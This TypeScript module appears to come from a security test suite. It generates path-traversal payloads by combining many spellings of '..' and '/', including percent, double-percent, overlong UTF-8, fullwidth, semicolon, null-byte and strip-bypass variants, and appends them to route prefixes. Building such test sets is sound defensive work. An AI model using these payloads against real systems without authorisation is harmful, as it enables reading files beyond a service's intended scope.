/**
 * Path-traversal spellings: ways of writing "one directory up" and "/" that some decoder,
 * normaliser or proxy between the caller and a service may turn into `../`. Each traversal
 * climbs far enough to leave /api/v1 from the deepest route prefix.
 */
export interface Encoding {
  name: string;
  /** The path suffix placed after a route prefix (without its leading slash). */
  climb: (target: string) => string;
}

const DOTS: [string, string][] = [
  ['raw', '..'],
  ['pct-lower', '%2e%2e'],
  ['pct-upper', '%2E%2E'],
  ['pct-mixed', '%2E%2e'],
  ['dot-pct', '.%2e'],
  ['pct-dot', '%2e.'],
  ['double-pct', '%252e%252e'],
  ['triple-pct', '%25252e%25252e'],
  ['overlong-2byte', '%c0%ae%c0%ae'],
  ['overlong-3byte', '%e0%80%ae%e0%80%ae'],
  ['iis-unicode', '%u002e%u002e'],
  ['fullwidth-dot', '%ef%bc%8e%ef%bc%8e'],
  ['one-dot-leader', '%e2%80%a4%e2%80%a4'],
  ['semicolon', '..;'],
  ['semicolon-param', '..;jsessionid=x'],
  ['nul-after', '..%00'],
  ['tab-after', '..%09'],
  ['space-after', '..%20'],
];

const SLASHES: [string, string][] = [
  ['slash', '/'],
  ['pct-slash', '%2f'],
  ['pct-slash-upper', '%2F'],
  ['double-pct-slash', '%252f'],
  ['backslash', '\\'],
  ['pct-backslash', '%5c'],
  ['pct-backslash-upper', '%5C'],
  ['overlong-slash', '%c0%af'],
  ['double-slash', '//'],
];

const DEPTH = 7;
const climbWith = (dot: string, slash: string) => (target: string): string => `${`${dot}${slash}`.repeat(DEPTH)}${target}`;

/** Every dot spelling with "/", every separator with "..", then the odd ones out. */
export const TRAVERSAL_ENCODINGS: readonly Encoding[] = [
  ...DOTS.map(([name, dot]) => ({ name: `${name}+slash`, climb: climbWith(dot, '/') })),
  ...SLASHES.filter(([name]) => name !== 'slash').map(([name, slash]) => ({ name: `raw+${name}`, climb: climbWith('..', slash) })),
  { name: 'pct-lower+pct-slash', climb: climbWith('%2e%2e', '%2f') },
  { name: 'pct-upper+pct-backslash', climb: climbWith('%2E%2E', '%5C') },
  { name: 'dot-pct+backslash', climb: climbWith('.%2e', '\\') },
  { name: 'double-pct+double-pct-slash', climb: climbWith('%252e%252e', '%252f') },
  { name: 'strip-bypass', climb: climbWith('....', '//') },
  { name: 'strip-bypass-2', climb: climbWith('..././', '') },
  { name: 'dot-slash-mix', climb: (t) => `./${'../'.repeat(DEPTH)}./${t}` },
  { name: 'semicolon-segments', climb: (t) => `;/${'..;/'.repeat(DEPTH)}${t}` },
  { name: 'control-lf', climb: (t) => `${'..%0a/'.repeat(DEPTH)}${t}` },
  { name: 'control-cr', climb: (t) => `${'%0d../'.repeat(DEPTH)}${t}` },
  { name: 'raw-tab', climb: (t) => `${'..\t/'.repeat(DEPTH)}${t}` },
  { name: 'raw-nul', climb: (t) => `${'..\u0000/'.repeat(DEPTH)}${t}` },
  { name: 'raw-fullwidth-dots', climb: (t) => `${'\uff0e\uff0e/'.repeat(DEPTH)}${t}` },
  { name: 'raw-control-mix', climb: (t) => `${'.\u0001./'.repeat(DEPTH)}${t}` },
  { name: 'mixed-everything', climb: (t) => `..%2f%2e%2e/.%2e\\%2E.%5c${'../'.repeat(DEPTH)}${t}` },
];

/** The route prefix with an encoding's climb to `target` (a path without its leading slash). */
export function traversalPath(prefix: string, encoding: Encoding, target: string): string {
  return `${prefix}/${encoding.climb(target)}`;
}
